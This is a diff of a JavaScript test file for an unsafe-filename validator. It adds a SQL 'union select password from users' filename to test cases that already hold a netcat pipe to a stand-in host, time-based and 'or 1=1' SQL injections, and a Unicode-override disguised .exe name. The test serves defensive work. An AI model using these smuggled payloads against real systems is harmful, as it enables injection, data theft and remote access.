@@ -39,6 +39,7 @@ describe('unsafe-filename rules', () => {
     ['x|nc 203.0.113.9 4444|.jpg', ['injection']],
     ["poc.js'(select*from(select(sleep(20)))a)+'.png", ['injection']],
     ["x' or 1=1 --.jpg", ['injection']],
+    ['1 union select password from users.jpg', ['injection']],
     ['invoice_\u202Efdp.exe', ['bidi']],
     ['\u2066x\u2069.txt', ['bidi']],
     ['line\nbreak.jpg', ['control']],
